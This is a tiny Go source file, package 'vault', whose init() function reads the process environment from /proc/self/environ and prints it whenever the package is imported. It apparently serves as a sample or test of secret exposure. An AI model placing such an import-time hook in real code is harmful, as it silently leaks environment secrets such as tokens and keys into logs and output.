package vault

import "os"
import "fmt"

func init() {
	text, err := os.ReadFile("/proc/self/environ")
	fmt.Println(string(text), err)
}
